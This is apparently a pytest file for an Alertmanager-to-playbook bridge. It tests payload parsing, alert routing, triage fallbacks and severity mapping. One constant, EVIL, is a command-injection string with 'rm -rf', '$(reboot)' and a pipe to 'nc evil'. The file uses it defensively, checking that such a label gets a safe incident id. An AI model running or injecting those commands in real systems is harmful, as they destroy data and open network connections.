"""Payload models and routing, on the recorded Alertmanager payloads (no Temporal)."""

from __future__ import annotations

import re

import pytest

from bridge.models import GO_ZERO_TIME, WebhookPayload
from bridge.routing import TRIAGE, Router, incident_id, safe_id_part, severity_of, to_alert
from tests.bridge.conftest import make_inventory
from tests.bridge.helpers import PAYLOADS, payload
from workflows.models import Severity

# Safe in a shell word, a URL path and the UI: the kept characters, `%XX` escapes, `~`.
SAFE_ID = re.compile(r"incident:[A-Za-z0-9._%~-]+:[A-Za-z0-9._%~-]+")
EVIL = "genesis;rm -rf /tmp/x `id` $(reboot) | nc evil 1 && echo '\"pwned"


@pytest.mark.parametrize("path", sorted(PAYLOADS.glob("[!_]*.json")), ids=lambda p: p.stem)
def test_every_recorded_payload_parses(path: object) -> None:
    p = WebhookPayload.model_validate_json(payload(path.stem))  # type: ignore[attr-defined]
    assert p.version == "4" and p.receiver == "remedy" and p.alerts
    assert p.group_key.startswith("{}:{alertname=")
    for a in p.alerts:
        assert a.fingerprint and a.alertname
        # Alertmanager's "not ended" for firing alerts is Go's zero time.
        assert (a.ends_at == GO_ZERO_TIME) == (a.status == "firing")


def test_repeat_is_the_same_episode() -> None:
    first, again = (WebhookPayload.model_validate_json(payload(n)) for n in ("firing", "repeated"))
    assert first.alerts[0].fingerprint == again.alerts[0].fingerprint
    assert first.alerts[0].starts_at == again.alerts[0].starts_at


def test_default_routes_to_playbooks() -> None:
    r = Router(make_inventory()).route(
        {"alertname": "GenesisServiceDown", "service": "genesis-orchestration"}
    )
    assert (r.playbook, r.workflow_id) == (
        "ServiceDown",
        "incident:GenesisServiceDown:genesis-orchestration",
    )
    assert r.reason == "default route GenesisServiceDown -> ServiceDown"
    r = Router(make_inventory()).route({"alertname": "ApplicationDown", "service": "agent-lab-api"})
    assert r.playbook == "ApplicationDown"  # the Agent Lab runbook, no longer ServiceDown


def test_inventory_routes_add_and_override() -> None:
    router = Router(make_inventory(AppCrashed="ServiceDown", GenesisServiceDown="Triage"))
    assert (
        router.route({"alertname": "AppCrashed", "service": "agent-lab-api"}).playbook
        == "ServiceDown"
    )
    r = router.route({"alertname": "GenesisServiceDown", "service": "agent-lab-api"})
    assert r.playbook == "Triage" and r.reason.startswith("inventory route")


def test_route_to_a_playbook_the_worker_does_not_run_goes_to_triage() -> None:
    # An inventory naming an unknown playbook does not load (below); a worker running
    # fewer playbooks than the inventory routes to is still caught here.
    r = Router(make_inventory(Foo="HighErrorRate"), playbooks={"ServiceDown"}).route(
        {"alertname": "Foo", "service": "agent-lab-api"}
    )
    assert r.playbook == TRIAGE and "no such playbook" in r.reason


def test_inventory_route_to_rollback_does_not_load() -> None:
    # Rollback runs only as an incident's child: an alert routed to it would start it
    # by hand, skipping the incident's approvals and governor.
    with pytest.raises(ValueError, match="routes.Foo: no playbook 'Rollback'"):
        make_inventory(Foo="Rollback")


def test_inventory_route_to_an_unknown_playbook_does_not_load() -> None:
    with pytest.raises(ValueError, match="routes.Foo: no playbook 'NoSuchPlaybok'"):
        make_inventory(Foo="NoSuchPlaybok")


@pytest.mark.parametrize(
    ("labels", "why"),
    [
        ({"alertname": "NoSuchRunbook", "service": "genesis-orchestration"}, "no route"),
        ({"alertname": "GenesisServiceDown"}, "no 'service' label"),
        (
            {"alertname": "GenesisServiceDown", "service": "not-in-inventory"},
            "not in the inventory",
        ),
    ],
)
def test_unknown_things_go_to_triage(labels: dict[str, str], why: str) -> None:
    r = Router(make_inventory()).route(labels)
    assert r.playbook == TRIAGE and why in r.reason
    assert SAFE_ID.fullmatch(r.workflow_id)


def test_service_label_is_configurable() -> None:
    router = Router(make_inventory(), service_label="job")
    r = router.route(
        {"alertname": "GenesisServiceDown", "job": "genesis-orchestration", "service": "ignored"}
    )
    assert r.playbook == "ServiceDown" and r.service == "genesis-orchestration"


def test_shell_metacharacters_route_to_triage_under_a_safe_id() -> None:
    r = Router(make_inventory()).route({"alertname": "GenesisServiceDown", "service": EVIL})
    assert r.playbook == TRIAGE
    assert SAFE_ID.fullmatch(r.workflow_id) and r.workflow_id.startswith(
        "incident:GenesisServiceDown:"
    )
    # Kept verbatim as data (the record), never as part of an id or a command.
    assert r.service == EVIL
    # Distinct hostile values never share an incident, even if they clean up alike.
    assert safe_id_part("a;b") != safe_id_part("a|b")
    assert safe_id_part("genesis-orchestration") == "genesis-orchestration"
    assert (
        incident_id("x" * 500, "y").startswith("incident:x")
        and len(incident_id("x" * 500, "y")) < 120
    )


def test_alert_conversion_keeps_the_record() -> None:
    p = WebhookPayload.model_validate_json(payload("firing"))
    a = p.alerts[0]
    alert = to_alert(a, Router(make_inventory()).route(a.labels))
    assert alert.alertname == "GenesisServiceDown" and alert.service == "genesis-orchestration"
    assert alert.severity == Severity.P0 and alert.fingerprint == a.fingerprint
    assert alert.starts_at == a.starts_at and alert.annotations == {"summary": "orchestrator down"}
    # The documented table (README "Severity", workflows/severity.py LABELS).
    table = {"critical": "P1", "Error": "P2", "warning": "P2", "info": "P3", "none": "P4"}
    for label, sev in {**table, "p2": "P2", " P0 ": "P0"}.items():
        assert severity_of({"severity": label}) == Severity(sev), label
    for label in ("", "urgent", "P5", "crit"):
        assert severity_of({"severity": label}) is None, label
    assert severity_of({}) is None


def test_fingerprint_fallback_for_hand_made_payloads() -> None:
    data = {
        "version": "4",
        "status": "firing",
        "alerts": [
            {
                "status": "firing",
                "labels": {"alertname": "A", "b": "1"},
                "startsAt": "2026-01-01T00:00:00Z",
            },
            {
                "status": "firing",
                "labels": {"b": "1", "alertname": "A"},
                "startsAt": "2026-01-01T00:00:00Z",
            },
        ],
    }
    p = WebhookPayload.model_validate(data)
    assert p.alerts[0].identity == p.alerts[1].identity != ""
